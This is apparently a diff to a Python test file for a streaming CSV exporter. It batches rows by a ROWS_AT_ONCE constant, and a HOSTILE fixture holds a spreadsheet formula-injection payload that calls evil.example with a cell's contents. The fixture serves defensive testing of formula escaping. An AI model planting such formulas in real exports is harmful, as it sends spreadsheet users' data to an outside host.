@@ -15,7 +15,15 @@ from hypothesis import given
 from hypothesis import strategies as st
 from rest_framework import serializers
 
-from tenants.listing.csv_files import FORMULA_STARTS, CsvRenderer, cells_of, columns_of, csv_answer, csv_lines
+from tenants.listing.csv_files import (
+    FORMULA_STARTS,
+    ROWS_AT_ONCE,
+    CsvRenderer,
+    cells_of,
+    columns_of,
+    csv_answer,
+    csv_lines,
+)
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?"&A1;"open")',
@@ -118,15 +126,16 @@ def test_lines_are_made_as_they_are_read() -> None:
     made = []
 
     def rows() -> Any:
-        for number in range(3):
+        for number in range(ROWS_AT_ONCE + 1):
             made.append(number)
             yield [number]
 
     lines = csv_lines(("number",), rows())
     assert next(lines) == "number\r\n"
     assert made == []
-    assert next(lines) == "0\r\n"
-    assert made == [0]
+    assert next(lines) == "".join(f"{number}\r\n" for number in range(ROWS_AT_ONCE))
+    assert len(made) == ROWS_AT_ONCE
+    assert list(lines) == [f"{ROWS_AT_ONCE}\r\n"]
 
 
 def test_the_answer_is_a_file_to_save() -> None:
